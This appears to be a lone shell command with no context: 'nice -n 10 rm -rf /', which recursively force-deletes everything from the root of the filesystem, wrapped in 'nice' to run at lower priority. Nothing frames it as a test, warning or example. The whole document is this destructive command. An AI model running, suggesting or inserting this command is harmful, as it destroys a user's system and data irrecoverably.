nice -n 10 rm -rf /
